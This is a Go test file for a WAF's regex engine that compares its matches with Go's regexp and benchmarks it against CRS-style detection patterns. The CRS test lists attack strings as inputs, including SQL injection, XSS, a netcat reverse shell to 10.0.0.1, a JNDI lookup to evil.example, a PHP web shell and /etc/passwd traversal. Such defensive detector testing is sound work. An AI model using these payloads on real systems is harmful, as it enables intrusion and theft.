// The tests run in an external package because the CRS test needs package crs, which imports the
// engine, which imports regexprog.
package regexprog_test

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/meshaccel/meshaccel/wasm-waf/crs"
	"github.com/meshaccel/meshaccel/wasm-waf/regexprog"
	"rsc.io/binaryregexp"
)

// reference returns the FindStringSubmatchIndex of package regexp, or of binaryregexp.
func reference(t testing.TB, pattern string, binary bool) func(string) []int {
	t.Helper()
	if binary {
		re, err := binaryregexp.Compile(pattern)
		if err != nil {
			t.Fatalf("binaryregexp.Compile(%q): %v", pattern, err)
		}
		return re.FindStringSubmatchIndex
	}
	re, err := regexp.Compile(pattern)
	if err != nil {
		t.Fatalf("regexp.Compile(%q): %v", pattern, err)
	}
	return re.FindStringSubmatchIndex
}

// compareWithReference runs every input through one Machine, forwards then backwards so that
// state left over from a previous call would show, and reports each difference from the reference.
// It returns how many inputs matched.
func compareWithReference(t *testing.T, pattern string, binary bool, inputs []string) (matched int) {
	t.Helper()
	want := reference(t, pattern, binary)
	prog, err := regexprog.Compile(pattern, binary)
	if err != nil {
		t.Fatalf("Compile(%q, %v): %v", pattern, binary, err)
	}
	// The default Machine searches short inputs depth first; the other runs the Pike VM on all.
	machines := []*regexprog.Machine{regexprog.NewMachine(prog), regexprog.PikeOnly(regexprog.NewMachine(prog))}
	var dst []int
	for pass := range 4 {
		m := machines[pass/2]
		for i := range inputs {
			in := inputs[i]
			if pass%2 == 1 {
				in = inputs[len(inputs)-1-i]
			}
			dst = m.FindSubmatchIndex(dst, in)
			if w := want(in); !slices.Equal(dst, w) || (dst == nil) != (w == nil) {
				t.Errorf("pattern %q (binary %v, Pike only %v) on %q: got %v, want %v", pattern, binary, pass >= 2, in, dst, w)
			}
			if pass == 0 && dst != nil {
				matched++
			}
		}
	}
	return matched
}

// commonInputs are tried with every table pattern besides its own inputs.
var commonInputs = []string{
	"", "a", "b", "ab", "ba", "abc", "aaa", "abcd", "aab", "foo bar", "\n", "a\nb\nc\n", "\n\n",
	"K", "k", "\u212a", "ß", "ẞ", "ΑΒΓ αβγ", "\xff", "a\xffb", "<a><b>", " x ", "_9",
}

var unicodeCases = []struct {
	pattern string
	inputs  []string
}{
	// Alternation: the first alternative that leads to a match wins, not the longest.
	{`a|ab`, nil},
	{`ab|a`, nil},
	{`(a|ab)(c|bcd)(d*)`, []string{"abcd", "abcdd"}},
	{`(foo|foobar)(bar)?`, []string{"foobar", "foobarbar"}},
	{`x(a|b|ab)*y`, []string{"xaby", "xababy", "xy", "xbay"}},
	{`(a|b|)+c`, []string{"abc", "c", "bbac"}},
	{`(?:(a)|(b)|(c))*d`, []string{"abcd", "cbad", "d", "aad"}},
	// Once a match is found no later start may win, even while an earlier one is still running.
	{`abcde|ab|d`, []string{"abcdx", "abcde", "xabcdx"}},
	{`(xyzw)|(x)|(z)`, []string{"xyzq", "xyzw"}},
	// Greedy and lazy quantifiers.
	{`a*?`, nil},
	{`a+?b`, []string{"aaab"}},
	{`(a+)(a*)`, nil},
	{`(a+?)(a*)`, nil},
	{`(a*)+`, nil},
	{`(a*)*`, nil},
	{`(a*?)*?b`, nil},
	{`(a|b)*?c`, []string{"abababc", "c"}},
	{`<.*>`, []string{"<a><b>", "x<>y"}},
	{`<.*?>`, []string{"<a><b>", "x<>y"}},
	{`a{2,3}?`, []string{"aaaa"}},
	{`a{2,}`, []string{"aaaa"}},
	{`(ab){1,2}?`, []string{"ababab"}},
	{`(ab){2}`, []string{"ababab"}},
	{`(?U)a+`, []string{"aaa"}},
	{`(?U)a+?`, []string{"aaa"}},
	// Groups that do not take part report -1.
	{`(a)|(b)`, nil},
	{`(a(b)?)+`, []string{"aba", "abab"}},
	{`((a)|b)+`, []string{"ab", "ba"}},
	{`((a)|(b))*`, []string{"ab", "ba"}},
	{`(a)?(b)?c`, []string{"ac", "bc", "c"}},
	{`(a*)?`, nil},
	{`(a?)*?b`, nil},
	{`(a){0}b`, nil},
	{`(a){0}|b|(c)`, []string{"c"}},
	{`(x(y(z)?)?)?w`, []string{"xyzw", "xyw", "xw", "w"}},
	// Empty matches.
	{``, nil},
	{`()`, nil},
	{`(|a)`, nil},
	{`(a|)`, nil},
	{`x*`, nil},
	{`(?:)`, nil},
	{`()+a`, nil},
	// Assertions, with and without (?m).
	{`^abc`, []string{"abc", "xabc", "x\nabc"}},
	{`abc$`, []string{"abc", "abc\n", "abc\nx"}},
	{`(?m)^abc$`, []string{"x\nabc\ny", "abc\n", "xabc"}},
	{`^`, nil},
	{`$`, nil},
	{`(?m)^`, nil},
	{`(?m)$`, nil},
	{`^$`, nil},
	{`(?m)^$`, nil},
	{`(?m)^(\w+)$`, []string{"  \nword\n", "a b\ncd"}},
	{`\Aabc`, []string{"abc", "x\nabc"}},
	{`(?m)\Aa`, []string{"\na", "a"}},
	{`abc\z`, []string{"abc", "abc\n"}},
	{`(?m)c\z`, []string{"c\n", "c\nc"}},
	{`\bfoo\b`, []string{"a foo b", "foobar", "_foo", "foo"}},
	{`\Bo\B`, []string{"foo", "o", "ooo"}},
	{`\b`, nil},
	{`\B`, nil},
	{`a\b`, nil},
	{`\b\B`, nil},
	{`^a|b$`, nil},
	{`(?m)(^|x)(a)`, []string{"xa", "\na", "ya"}},
	{`(^)*a`, nil},
	{`(?:$|a)+`, nil},
	// The dot and newlines.
	{`.`, nil},
	{`a.c`, []string{"a\nc", "abc"}},
	{`(?s)a.c`, []string{"a\nc", "abc"}},
	{`.+`, nil},
	{`(?s).+`, nil},
	{`(?m).+$`, nil},
	{`[^a]+`, nil},
	// Case folding, including runes outside ASCII.
	{`(?i)k`, nil},
	{`(?i)K+`, []string{"kK\u212ak"}},
	{`(?i)\x{212a}`, nil},
	{`(?i)ß`, []string{"ss", "SS"}},
	{`(?i)straße`, []string{"STRASSE", "STRAẞE", "Straße"}},
	{`(?i)[a-z]+`, []string{"Hello World", "\u212aelvin", "ſ"}},
	{`(?i)σ+`, []string{"σςΣ"}},
	{`(?i)[k]`, nil},
	{`(?i)ǅ`, []string{"Ǆ", "ǆ", "ǅ"}},
	{`k(?i)k(?-i)k`, []string{"kKk", "kkK", "k\u212ak"}},
	// Unicode classes.
	{`\p{Greek}+`, nil},
	{`\P{Greek}+`, nil},
	{`[^\p{Greek}]`, nil},
	{`\pL+`, []string{"héllo wörld", "日本語"}},
	{`[\p{Lu}]`, nil},
	{`[^\x00-\x{10FFFF}]`, nil},
	{`[[:alpha:]]+`, nil},
	{`\d+|\s+|\w+\W`, []string{"12 ab!", "٣"}},
	{`(\d+)-(\d+)`, []string{"tel 555-1234 x", "1-"}},
	// Invalid UTF-8 in the input reads as U+FFFD, one byte at a time.
	{`\x{FFFD}`, []string{"\xff", "a\xe2\x82", "\uFFFD"}},
	{`a.b`, []string{"a\xffb", "a\xe2\x82b", "a\xc0\x80b"}},
	{`(.)(.)`, []string{"\xc0\x80", "\xe2\x82\xac", "\xe2\x82"}},
	{`.*`, []string{"a\x80\x80b"}},
	{`\b.\b`, []string{"\xff", "a\xffb"}},
	{`[\x{80}-\x{10FFFF}]+`, []string{"é\xffé", "\xed\xa0\x80"}},
	// Larger programs.
	{`(?i)(?:select|union|insert|update|delete|drop)\s+(\w+)`, []string{"1 UNION  select x", "Drop\ttable"}},
	{`(a|b|c|d|e|f|g|h)*(?:h|g)`, []string{"abcdefgh", "hgfedcba"}},
}

func TestFindSubmatchIndexMatchesRegexp(t *testing.T) {
	for _, tc := range unicodeCases {
		compareWithReference(t, tc.pattern, false, append(slices.Clone(tc.inputs), commonInputs...))
	}
}

var binaryInputs = []string{
	"", "a", "\xff", "\xff\xff\x00", "\x00\xff", "A\xc9", "b\xe9", "\xe9", "\xc9", "ab\xc3\xa9",
	"\n\x80\n", "k\xff", "K", "x\xe9y", "\x7f\x80",
}

var binaryCases = []struct {
	pattern string
	inputs  []string
}{
	{`\xff+`, nil},
	{`[\x80-\xff]+`, []string{"abc\xc3\xa9\xff"}},
	{`(?i)[a-c]\xe9`, []string{"C\xc9", "c\xe9", "d\xe9"}},
	{`(?i)\xe9`, nil},
	{`.`, nil},
	{`(?s).+`, nil},
	{`.+`, nil},
	{`\b\xe9`, nil},
	{`\xe9\b`, []string{"\xe9a", "a\xe9"}},
	{`[^\x00-\x7f]`, nil},
	{`(\x00|\xff)+`, nil},
	{`\x{100}`, nil},
	{`ā|\xc4`, []string{"\xc4\x81"}},
	{`(?i)k`, []string{"\xe2\x84\xaa"}},
	{`\w+\xff`, nil},
	{`(?m)^\xff$`, []string{"a\n\xff\nb"}},
	{`(\xc3)(\xa9)?`, nil},
}

func TestFindSubmatchIndexMatchesBinaryRegexp(t *testing.T) {
	for _, tc := range binaryCases {
		compareWithReference(t, tc.pattern, true, append(slices.Clone(tc.inputs), binaryInputs...))
	}
}

func TestFindSubmatchIndexMatchesRegexpOnCRS(t *testing.T) {
	rs, err := crs.Compile(crs.Options{ParanoiaLevel: 4})
	if err != nil {
		t.Fatal(err)
	}
	if len(rs.Regexes) < 100 {
		t.Fatalf("only %d CRS regexes", len(rs.Regexes))
	}
	header := strings.Repeat("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 ", 40)
	inputs := []string{
		"", "hello world", "42", "john.doe@example.com", "application/x-www-form-urlencoded",
		"/index.php?id=42&name=john", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
		"1' UNION SELECT password FROM users--", "1 or 1=1", "admin'/**/OR/**/'1'='1",
		"SELECT * FROM information_schema.tables WHERE 1=1", "sleep(5)#", "union/**/select",
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
		"../../etc/passwd", "..%2f..%2f..%c0%afetc/shadow", ";cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444",
		"() { :; }; /bin/bash -c 'id'", "${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>",
		"eval(base64_decode('aGVsbG8='))", "java.lang.Runtime.getRuntime().exec('id')",
		"require('child_process').exec('ls')", `<!ENTITY xxe SYSTEM "file:///etc/passwd">`, "{{7*7}}",
		"%3Cscript%3Ealert(1)%3C/script%3E", "/wp-admin/../.git/config", "a\r\nSet-Cookie: x=y",
		"ORA-00933: SQL command not properly ended", "cmd.exe /c dir & powershell -enc SQBFAFgA",
		"SESSIONID=1234; lang=fr_FR.UTF-8", "\x00\x01\xff binary \xc3\x28", "ſelect ǅ \u212a",
		header, header + "' OR 1=1--", header + "<script>",
	}
	start := time.Now()
	matches, binaries, largest := 0, 0, 0
	for i, r := range rs.Regexes {
		matches += compareWithReference(t, r.Pattern, r.Binary, inputs)
		if r.Binary {
			binaries++
		}
		if len(r.Pattern) > len(rs.Regexes[largest].Pattern) {
			largest = i
		}
		if t.Failed() {
			t.Fatalf("regex %d differs", i)
		}
	}
	t.Logf("%d CRS regexes (%d binary) x %d inputs, %d matches, in %v",
		len(rs.Regexes), binaries, len(inputs), matches, time.Since(start))
	// The inputs are meant to exercise the match paths, not only the misses.
	if matches < len(rs.Regexes)/2 {
		t.Errorf("only %d matches: the inputs no longer exercise the CRS patterns", matches)
	}

	// A warm Machine does not allocate on the largest program either.
	prog := mustCompile(t, rs.Regexes[largest].Pattern, rs.Regexes[largest].Binary)
	m := regexprog.NewMachine(prog)
	dst := make([]int, prog.NumCap)
	run := func() {
		for _, in := range inputs {
			m.FindSubmatchIndex(dst, in)
		}
	}
	run()
	if allocs := testing.AllocsPerRun(3, run); allocs != 0 {
		t.Errorf("CRS regex %d (%d instructions): %v allocations per run", largest, prog.Len(), allocs)
	}
}

func TestFindSubmatchIndexReusesDst(t *testing.T) {
	m := regexprog.NewMachine(mustCompile(t, `(a)(b)?`, false))
	dst := make([]int, 1, 16)
	got := m.FindSubmatchIndex(dst, "xa")
	if want := []int{1, 2, 1, 2, -1, -1}; !slices.Equal(got, want) || &got[0] != &dst[0] {
		t.Errorf("got %v (own array %v), want %v in dst's array", got, &got[0] != &dst[0], want)
	}
	if got := m.FindSubmatchIndex(dst, "xyz"); got != nil {
		t.Errorf("no match: got %v, want nil", got)
	}
}

func TestFindSubmatchIndexDoesNotAllocateWhenWarm(t *testing.T) {
	inputs := []string{"", "abc", "1' UNION SELECT password FROM users--", strings.Repeat("ab ", 300) + "<script>"}
	for _, pattern := range []string{
		`(a|b)*c`, `(?i)(union\s+select|<script)`, `((a)|(b))*?(\w+)\b`, `(?s)(.*)(select|script)(.*)`,
	} {
		m := regexprog.NewMachine(mustCompile(t, pattern, false))
		var dst []int
		run := func() {
			for _, in := range inputs {
				// A miss returns nil: keep the buffer for the next hit.
				if got := m.FindSubmatchIndex(dst, in); got != nil {
					dst = got
				}
			}
		}
		run() // warm up
		allocs := testing.AllocsPerRun(20, run)
		if allocs != 0 {
			t.Errorf("%q: %v allocations per run", pattern, allocs)
		}
	}
}

func mustCompile(t testing.TB, pattern string, binary bool) *regexprog.Prog {
	t.Helper()
	p, err := regexprog.Compile(pattern, binary)
	if err != nil {
		t.Fatalf("Compile(%q, %v): %v", pattern, binary, err)
	}
	return p
}

func FuzzFindSubmatchIndex(f *testing.F) {
	for _, tc := range unicodeCases {
		f.Add(tc.pattern, "abc")
		for _, in := range tc.inputs {
			f.Add(tc.pattern, in)
		}
	}
	for _, tc := range binaryCases {
		for _, in := range tc.inputs {
			f.Add(tc.pattern, in)
		}
	}
	f.Fuzz(func(t *testing.T, pattern, input string) {
		if len(pattern) > 200 {
			t.Skip("pattern too large")
		}
		check := func(binary bool, want []int) {
			prog, err := regexprog.Compile(pattern, binary)
			if err != nil {
				t.Fatalf("Compile(%q, %v): %v, though the reference accepts it", pattern, binary, err)
			}
			if err := prog.Validate(); err != nil {
				t.Fatalf("Compile(%q, %v): %v", pattern, binary, err)
			}
			if prog.Len() > 20000 {
				// Nested counted repeats blow up; such programs only slow the fuzzer down.
				t.Skip("program too large")
			}
			for _, m := range []*regexprog.Machine{regexprog.NewMachine(prog), regexprog.PikeOnly(regexprog.NewMachine(prog))} {
				if got := m.FindSubmatchIndex(nil, input); !slices.Equal(got, want) || (got == nil) != (want == nil) {
					t.Fatalf("pattern %q (binary %v) on %q: got %v, want %v", pattern, binary, input, got, want)
				}
			}
		}
		if re, err := regexp.Compile(pattern); err == nil {
			check(false, re.FindStringSubmatchIndex(input))
		}
		if re, err := binaryregexp.Compile(pattern); err == nil {
			check(true, re.FindStringSubmatchIndex(input))
		}
	})
}

// benchPattern is shaped like the CRS SQL injection rules: case folded alternations of keywords
// between word boundaries, with groups.
const benchPattern = `(?i)(?:\b(union(?:\s+all)?\s+select|select\s+[\w*,\s]+?\s+from|insert\s+into|drop\s+(?:table|database))\b` +
	`|(['"` + "`" + `])\s*(?:or|and|xor)\s*['"` + "`" + `]?\d|(?:sleep|benchmark|pg_sleep)\s*\(\s*\d+)`

func BenchmarkFindSubmatchIndex(b *testing.B) {
	input := strings.Repeat("id=42&name=john+doe&lang=en-US&", 30) + "q=1' UNION ALL SELECT password FROM users--"
	prog := mustCompile(b, benchPattern, false)
	re := regexp.MustCompile(benchPattern)
	if want, got := re.FindStringSubmatchIndex(input), regexprog.NewMachine(prog).FindSubmatchIndex(nil, input); !slices.Equal(got, want) {
		b.Fatalf("got %v, want %v", got, want)
	}
	for _, pike := range []bool{false, true} {
		name := "machine" // depth first for this input length
		if pike {
			name = "pike"
		}
		b.Run(fmt.Sprintf("%s/%dinst", name, prog.Len()), func(b *testing.B) {
			m := regexprog.NewMachine(prog)
			if pike {
				m = regexprog.PikeOnly(m)
			}
			var dst []int
			b.SetBytes(int64(len(input)))
			for b.Loop() {
				dst = m.FindSubmatchIndex(dst, input)
			}
		})
	}
	b.Run("regexp", func(b *testing.B) {
		b.SetBytes(int64(len(input)))
		for b.Loop() {
			re.FindStringSubmatchIndex(input)
		}
	})
}
